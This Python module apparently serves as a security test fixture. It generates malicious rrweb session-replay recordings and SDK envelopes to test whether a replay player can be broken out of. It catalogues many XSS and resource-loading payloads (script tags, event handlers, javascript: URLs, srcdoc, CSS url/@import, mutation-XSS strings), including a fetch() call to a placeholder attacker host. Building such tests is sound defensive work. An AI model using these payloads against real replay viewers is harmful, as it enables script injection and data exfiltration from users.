"""Recordings made to break out of the player: each is a page, or a change of one, that a malicious sender could have recorded."""

from __future__ import annotations

import itertools
import json
import time
import uuid
import zlib
from collections.abc import Iterator
from typing import Any

Node = dict[str, Any]
RUN = "top.pwned = 'recorded script'; alert(1); fetch('{evil}/fetched')"


class Builder:
    """Nodes as rrweb serialises them, numbered."""

    def __init__(self) -> None:
        self.numbers = itertools.count(1)

    def element(self, tag: str, attributes: dict[str, Any] | None = None, *children: Node, **more: Any) -> Node:
        """One element; strings among its attributes may say {evil} or {run}."""
        return {"type": 2, "tagName": tag, "attributes": attributes or {}, "childNodes": list(children), "id": next(self.numbers), **more}

    def text(self, content: str, style: bool = False) -> Node:
        """One text node."""
        return {"type": 3, "textContent": content, "id": next(self.numbers), **({"isStyle": True} if style else {})}


def attacks() -> dict[str, dict[str, Any]]:
    """Name → what is put into the page: body, head, html or body attributes, or later events."""
    b = Builder()
    e, t = b.element, b.text
    svg = {"isSVG": True}
    return {
        "script": {"body": [e("script", {}, t("{run}"))]},
        "script src": {"head": [e("script", {"src": "{evil}/script.js"})]},
        "module script": {"head": [e("script", {"type": "module", "src": "{evil}/module.js"})]},
        "img onerror": {"body": [e("img", {"src": "x", "onerror": "{run}"})]},
        "img src elsewhere": {"body": [e("img", {"src": "{evil}/pixel.gif", "srcset": "{evil}/pixel2.gif 2x"})]},
        "svg onload": {"body": [e("svg", {"onload": "{run}"}, **svg)]},
        "svg script": {"body": [e("svg", {}, e("script", {"href": "{evil}/svg.js"}, t("{run}"), **svg), **svg)]},
        "svg image and use": {
            "body": [e("svg", {}, e("image", {"href": "{evil}/i.svg"}, **svg), e("use", {"xlink:href": "{evil}/u.svg#a"}, **svg), **svg)]
        },
        "svg foreignObject": {
            "body": [e("svg", {}, e("foreignObject", {}, e("iframe", {"srcdoc": "<script>{run}</script>"}), **svg), **svg)]
        },
        "javascript: link": {"body": [e("a", {"href": "javascript:{run}", "autofocus": ""}, t("click"))], "click": True},
        "javascript: frame": {"body": [e("iframe", {"src": "javascript:{run}"})]},
        "srcdoc": {"body": [e("iframe", {"srcdoc": "<script>{run}</script><img src={evil}/srcdoc.gif onerror='{run}'>"})]},
        "frame elsewhere": {"body": [e("iframe", {"src": "{evil}/frame.html"}), e("iframe", {"rr_src": "{evil}/rr.html"})]},
        "meta refresh": {"head": [e("meta", {"http-equiv": "refresh", "content": "0;url={evil}/refresh"})]},
        "meta refresh to script": {"head": [e("meta", {"http-equiv": "refresh", "content": "0;url=javascript:{run}"})]},
        "form": {
            "body": [
                e(
                    "form",
                    {"action": "{evil}/form", "method": "post", "target": "_top"},
                    e("button", {"autofocus": "", "formaction": "javascript:{run}"}, t("go")),
                )
            ],
            "click": True,
        },
        "base": {
            "head": [e("base", {"href": "{evil}/", "target": "_top"})],
            "body": [e("img", {"src": "base.gif"}), e("a", {"href": "away"}, t("go"))],
            "click": True,
        },
        "link stylesheet": {"head": [e("link", {"rel": "stylesheet", "href": "{evil}/style.css"})]},
        "link preload": {
            "head": [
                e("link", {"rel": "preload", "as": "image", "href": "{evil}/preload.gif"}),
                e("link", {"rel": "prefetch", "href": "{evil}/prefetch"}),
                e("link", {"rel": "modulepreload", "href": "{evil}/mp.js"}),
                e("link", {"rel": "icon", "href": "{evil}/icon.png"}),
            ]
        },
        "css import": {"head": [e("style", {}, t("@import '{evil}/import.css'; body { color: red }", style=True))]},
        "css text of a link": {
            "head": [
                e("link", {"rel": "stylesheet", "_cssText": "@import '{evil}/csstext.css'; body { background: url({evil}/csstext.gif) }"})
            ]
        },
        "css url": {
            "head": [
                e(
                    "style",
                    {},
                    t(
                        "body { background: url({evil}/css.gif); cursor: url({evil}/c.cur), auto } p::after { content: url({evil}/a.png) }",
                        style=True,
                    ),
                )
            ],
            "body": [e("p", {}, t("p"))],
        },
        "css font": {
            "head": [e("style", {}, t("@font-face { font-family: f; src: url({evil}/f.woff2) } * { font-family: f }", style=True))],
            "body": [e("p", {}, t("letters"))],
        },
        "inline style": {
            "body": [
                e("div", {"style": "background-image: url({evil}/inline.gif); width: 99px; height: 99px; list-style: url({evil}/l.gif)"})
            ]
        },
        "object and embed": {
            "body": [
                e("object", {"data": "{evil}/object.html", "type": "text/html"}),
                e("embed", {"src": "{evil}/embed.html", "type": "text/html"}),
            ]
        },
        "media": {
            "body": [
                e("video", {"src": "{evil}/v.mp4", "poster": "{evil}/poster.gif", "autoplay": ""}),
                e("audio", {"src": "{evil}/a.mp3", "autoplay": "", "onerror": "{run}"}),
            ]
        },
        "focus handler": {"body": [e("input", {"autofocus": "", "onfocus": "{run}", "onblur": "{run}"})], "click": True},
        "toggle handler": {"body": [e("details", {"open": "", "ontoggle": "{run}"}, t("d"))]},
        "body handlers": {"attributes": {"onload": "{run}", "onpageshow": "{run}", "onresize": "{run}", "background": "{evil}/bg.gif"}},
        "script added later": {
            "adds": [
                e("script", {}, t("{run}")),
                e("script", {"src": "{evil}/later.js"}),
                e("img", {"src": "{evil}/later.gif", "onerror": "{run}"}),
                e("iframe", {"srcdoc": "<script>{run}</script>"}),
            ]
        },
        "attributes changed later": {
            "body": [e("img", {"src": "data:,", "rr_width": "9px"}), e("a", {"href": "#"}, t("a"))],
            "change": {
                "onerror": "{run}",
                "src": "{evil}/changed.gif",
                "srcdoc": "<script>{run}</script>",
                "href": "javascript:{run}",
                "style": {"background": "url({evil}/changed2.gif)"},
            },
        },
        "rule inserted later": {
            "head": [e("style", {}, t("p { color: red }", style=True))],
            "rule": "body { background: url({evil}/rule.gif) }",
        },
        "shadow root": {
            "body": [
                e(
                    "div",
                    {},
                    e("script", {}, t("{run}"), isShadow=True),
                    e("img", {"src": "{evil}/shadow.gif", "onerror": "{run}"}, isShadow=True),
                    isShadowHost=True,
                )
            ]
        },
        "canvas picture": {
            "body": [
                e("canvas", {"rr_dataURL": "{evil}/canvas.png", "width": "9", "height": "9"}),
                e("img", {"rr_dataURL": "{evil}/dataurl.png"}),
            ]
        },
        "mutation xss": {
            "body": [
                e("noscript", {}, t('</noscript><img src=x onerror="{run}">')),
                e("template", {}, t("<script>{run}</script>")),
                e("math", {}, e("mtext", {}, t("</math><script>{run}</script>"))),
            ]
        },
        "texts of the panes": {"notes": True},
    }


def _say(value: Any, evil: str) -> Any:
    if isinstance(value, str):
        return value.replace("{run}", RUN).replace("{evil}", evil)
    if isinstance(value, list):
        return [_say(one, evil) for one in value]
    if isinstance(value, dict):
        return {key: _say(one, evil) for key, one in value.items()}
    return value


def events(attack: dict[str, Any], evil: str, at: int) -> Iterator[dict[str, Any]]:
    """The rrweb events of one recording that begins at `at` (ms)."""
    b = Builder()
    b.numbers = itertools.count(90_001)
    body = b.element(
        "body", attack.get("attributes"), *attack.get("body", []), b.element("main", {"id": "honest"}, b.text("an honest word"))
    )
    head = b.element("head", {}, *attack.get("head", []))
    html = b.element("html", {}, head, body)
    document = {"type": 0, "childNodes": [{"type": 1, "name": "html", "publicId": "", "systemId": "", "id": 99_998}, html], "id": 99_999}
    victim = (attack.get("body") or attack.get("head") or [body])[0]["id"]
    yield {"type": 4, "timestamp": at, "data": {"href": "https://example.com/<img src=x onerror=alert(1)>", "width": 800, "height": 600}}
    yield {"type": 2, "timestamp": at + 1, "data": {"node": document, "initialOffset": {"top": 0, "left": 0}}}
    if attack.get("click"):
        for offset, kind in ((200, 5), (250, 1), (300, 0), (320, 2), (340, 4)):
            yield {"type": 3, "timestamp": at + offset, "data": {"source": 2, "type": kind, "id": victim, "x": 5, "y": 5}}
    if adds := attack.get("adds"):
        rows = [{"parentId": body["id"], "nextId": None, "node": {**node, "childNodes": []}} for node in adds]
        rows += [{"parentId": node["id"], "nextId": None, "node": child} for node in adds for child in node["childNodes"]]
        yield {"type": 3, "timestamp": at + 200, "data": {"source": 0, "adds": rows, "removes": [], "texts": [], "attributes": []}}
    if change := attack.get("change"):
        rows = [{"id": node["id"], "attributes": change} for node in attack["body"]]
        yield {"type": 3, "timestamp": at + 200, "data": {"source": 0, "adds": [], "removes": [], "texts": [], "attributes": rows}}
    if rule := attack.get("rule"):
        yield {"type": 3, "timestamp": at + 200, "data": {"source": 8, "id": victim, "adds": [{"rule": rule, "index": 0}]}}
    if attack.get("notes"):
        bad = '<img src={evil}/pane.gif onerror="{run}"><script>{run}</script>'
        node = {"id": 1, "tagName": "button", "textContent": bad, "attributes": {"id": bad, "class": bad}}
        for offset, payload in enumerate(
            (
                {"category": "ui.click", "message": bad, "data": {"nodeId": 1, "node": node}},
                {"category": "console", "level": "error", "message": bad, "data": {"arguments": [bad, {"a": bad}]}},
                {"category": "navigation", "data": {"to": "javascript:" + bad}},
            )
        ):
            yield {
                "type": 5,
                "timestamp": at + 100 + offset,
                "data": {"tag": "breadcrumb", "payload": {"type": "default", "timestamp": (at + 100 + offset) / 1000, **payload}},
            }
        span = {
            "op": "resource.fetch",
            "description": bad,
            "startTimestamp": at / 1000,
            "endTimestamp": at / 1000 + 1,
            "data": {"method": bad, "statusCode": 500},
        }
        yield {"type": 5, "timestamp": at / 1000, "data": {"tag": "performanceSpan", "payload": span}}
    for step in range(4):
        yield {
            "type": 3,
            "timestamp": at + 400 + step * 100,
            "data": {"source": 1, "positions": [{"x": 9 + step, "y": 9, "id": body["id"], "timeOffset": 0}]},
        }


def envelope(name: str, attack: dict[str, Any], evil: str) -> tuple[str, bytes]:
    """A recording as the SDK sends it: (replay id, envelope)."""
    replay_id = uuid.uuid4().hex
    now = time.time()
    tape = zlib.compress(json.dumps([_say(event, evil) for event in events(attack, evil, int(now * 1000) - 20_000)]).encode())
    bad = _say('<img src={evil}/name.gif onerror="{run}">', evil)
    event = {
        "type": "replay_event",
        "replay_id": replay_id,
        "event_id": replay_id,
        "segment_id": 0,
        "replay_type": "session",
        "platform": "javascript",
        "timestamp": now - 18,
        "replay_start_timestamp": now - 20,
        "urls": [f"javascript:alert(1)//{bad}"],
        "error_ids": [],
        "trace_ids": [],
        "user": {"username": f"{name} {bad}"},
        "tags": {"attack": bad[:180]},
        "release": bad[:100],
        "environment": "hostile",
    }
    recording = b'{"segment_id":0}\n' + tape
    lines = [
        json.dumps({"event_id": replay_id, "sent_at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now))}).encode(),
        b'{"type":"replay_event"}',
        json.dumps(event).encode(),
        json.dumps({"type": "replay_recording", "length": len(recording)}).encode(),
        recording,
    ]
    return replay_id, b"\n".join(lines) + b"\n"
